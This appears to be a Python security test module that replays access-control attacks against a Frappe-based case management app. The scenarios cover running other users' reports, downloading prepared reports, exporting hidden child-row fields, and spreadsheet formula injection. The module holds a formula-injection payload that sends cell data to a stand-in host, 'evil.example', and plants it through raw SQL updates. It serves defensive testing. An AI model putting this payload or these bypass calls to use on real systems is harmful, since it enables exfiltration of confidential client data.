"""Reports, prepared reports, exports."""

from __future__ import annotations

import base64
import io
import json
import time
import zipfile
from typing import Any

from tests.site.confidentiality.replay.attack import Evidence, attack, both, told
from tests.site.confidentiality.replay.http import Answer, Visitor
from tests.site.confidentiality.replay.world import Victim

RUN = "frappe.desk.query_report.run"


def _own_report(world: Any, prepared: int = 0) -> str:
	"""A report over the clients that administrators write; empty when all are refused."""
	words = world.words
	query = f"select name, {words.name} from `tab{words.person}`"
	values = {"ref_doctype": words.client, "is_standard": "No", "query": query, "prepared_report": prepared}
	name = f"Replay of clients {time.time():.0f}{prepared}"
	return world.configure("Report", report_name=name, report_type="Query Report", module="Core", **values)


def _with_report(world: Any) -> Victim:
	victim = world.victim()
	victim.more["report"] = _own_report(world)
	return victim


@attack("L18", "a report knows no row rule, and runs as somebody else", prepare=_with_report)
def query_report(world: Any, victim: Victim) -> Evidence:
	answers: list[Answer] = []
	for who in world.who("staff") + world.who("provider"):
		for report in filter(None, (victim.more["report"], "Statistics Table")):
			for user in (None, "Administrator"):
				answers.append(
					who.call(RUN, report_name=report, filters={}, user=user, ignore_prepared_report=1)
				)
		saved = {"doctype": world.words.client, "name": "Replay", "data": "{}"}
		answers.append(who.call("frappe.desk.reportview.save_report", **saved, report_settings="{}"))
	return Evidence(answers, told(answers, victim, victim.client))


def _with_prepared_report(world: Any) -> Victim:
	"""The central office has a report prepared in the background; what it may see lies there as a file."""
	victim = world.victim()
	report = victim.more["report"] = _own_report(world, prepared=1) or "Statistics Table"
	method = "frappe.core.doctype.prepared_report.prepared_report.make_prepared_report"
	made = world.visitor("central").call(method, report_name=report, filters={})
	name = victim.more["prepared"] = (made.message or {}).get("name", "none") if made.well else "none"
	for _try in range(60 if made.well else 0):
		if world.cell("Prepared Report", name, "status") in ("Completed", "Error", "Failed"):
			break
		time.sleep(0.5)
	return victim


@attack("L19", "the prepared result of somebody else's report is handed out", prepare=_with_prepared_report)
def prepared_report(world: Any, victim: Victim) -> Evidence:
	report, prepared, answers = victim.more["report"], victim.more["prepared"], []
	module = "frappe.core.doctype.prepared_report.prepared_report"
	central = world.visitor("central").email
	for who in world.who("staff") + world.who("provider"):
		answers.append(who.call(RUN, report_name=report, filters={"prepared_report_name": prepared}))
		answers.append(who.call(RUN, report_name=report, filters={}, user=central))
		answers.append(who.get(f"{module}.download_attachment", dn=prepared))
		answers.append(who.read("Prepared Report", prepared))
	return Evidence(answers, told(answers, victim, victim.client))


@attack("L30", "the template of an import exports hidden fields of child rows")
def template_with_rows(world: Any, victim: Victim) -> Evidence:
	words, mine, answers = world.words, world.mine(), []
	module = "frappe.core.doctype.data_import.data_import"
	asked = ((words.person, words.name, True), (words.text, words.note, False))
	for who in world.who("staff") + world.who("half"):
		for kind, column, with_rows in asked:
			fields = {kind: ["name", column]}
			if with_rows:
				fields[words.children] = ["name", words.child_name, words.child_health]
			given = {"doctype": kind, "export_fields": json.dumps(fields), "export_records": "all"}
			answers.append(who.get(f"{module}.download_template", **given, file_type="CSV"))
			answers.append(
				who.get("frappe.core.doctype.data_export.exporter.export_data", doctype=kind, with_data="1")
			)
	hidden = Victim(secrets={"hidden field of a row": mine.secrets["child_health"]})
	return Evidence(answers, both(told(answers, hidden), told(answers, victim)))


OWN_REPORTS = ("Where Is Everybody", "Referral Board", "Plan Budget")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _with_formula(world: Any) -> Victim:
	"""Somebody is registered under a name that a spreadsheet takes for a formula."""
	victim, central = world.victim(), world.visitor("central")
	if world.title == "naive":
		central.insert(world.words.client, full_name=FORMULA, province=world.words.here)
		return victim
	# Written past the rules, as an import of earlier years would leave it.
	where = "where name='CWDA'"
	label = world.cell("Service Provider", "CWDA", "label_en")
	world.site.rows(f"update `tabService Provider` set label_en='{FORMULA}', director='{FORMULA}' {where}")
	back = f"update `tabService Provider` set label_en='{label}', director=null {where}"
	world.later(lambda: world.site.rows(back))
	# The board of referrals shows what has been sent.
	mine = f"where name='{victim.referral}'"
	world.site.rows(f"update tabReferral set referral_category='Sent' {mine}")
	world.later(lambda: world.site.rows(f"update tabReferral set referral_category='Draft' {mine}"))
	return victim


@attack(
	"L43",
	"an exported table holds a live formula",
	prepare=_with_formula,
	# Whatever leaves the register is noted, in the ledger too.
	may_change=("tabDisclosure", "tabCase Event"),
)
def formula(world: Any, victim: Victim) -> Evidence:
	answers: list[Answer] = []
	harms: list[str] = []
	kind, fields = world.words.client, [world.words.name]
	if world.title == "ours":
		kind, fields = "Service Provider", ["label_en", "director"]
	for who in [*world.who("staff"), world.visitor("central")]:
		for form in ("Excel", "CSV"):
			answer = _exported(who, kind, fields, form)
			answers.append(answer)
			if answer.well and _is_live(answer, form):
				harms.append(f"{who.email} gets a live formula in {form}")
	if world.title == "ours":
		own, more = _own_exports(world.visitor("central"))
		return Evidence([*answers, *own], both(*harms, *more))
	return Evidence(answers, both(*harms))


def _own_exports(central: Visitor) -> tuple[list[Answer], list[str]]:
	"""What the app's own export makes of the formula; it must be in one of the files, or nothing was tried."""
	answers, harms, seen = [], [], False
	for report in OWN_REPORTS:
		for form in ("Excel", "CSV"):
			given = {"report_name": report, "file_format": form, "reason": "Replay", "filters": {}}
			answers.append(central.call("ccm_app.api.exports.export_report", **given))
			file = _file_in(answers[-1])
			seen = seen or bool(file and file.holds("HYPERLINK"))
			if file and _is_live(file, form):
				harms.append(f"the app's own export of {report} holds a live formula in {form}")
	return answers, harms if seen else [*harms, "the formula is in no file, so nothing was tried"]


def _file_in(answer: Answer) -> Answer | None:
	"""The file that the app's own export gives back, as if it had been downloaded."""
	found = answer.message if isinstance(answer.message, dict) else {}
	if not found.get("content"):
		return None
	content = base64.b64decode(found["content"])
	text = content.decode("utf-8", "replace")
	return Answer(answer.asked, answer.status, text, content, answer.headers, answer.seconds)


def _exported(who: Visitor, kind: str, fields: list[str], form: str) -> Answer:
	given = {
		"doctype": kind,
		"fields": ["name", *fields],
		"file_format_type": form,
		"title": "x",
		"filters": [],
	}
	data = {key: value if isinstance(value, str) else json.dumps(value) for key, value in given.items()}
	columns = [f"`tab{kind}`.`{field}`" for field in ("name", *fields)]
	data |= {"fields": json.dumps(columns), "view": "Report"}
	return who.ask("POST", "/api/method/frappe.desk.reportview.export_query", data=data)


def _is_live(answer: Answer, form: str) -> bool:
	"""Whether a spreadsheet program would calculate something."""
	if form == "CSV":
		cells = answer.text.replace('""', "").split(",")
		return any(cell.strip().strip('"').startswith(("=HYPERLINK", "=")) for cell in cells)
	if not zipfile.is_zipfile(io.BytesIO(answer.content)):
		return False
	with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
		return any(b"<f>" in book.read(name) for name in book.namelist() if "worksheets/" in name)
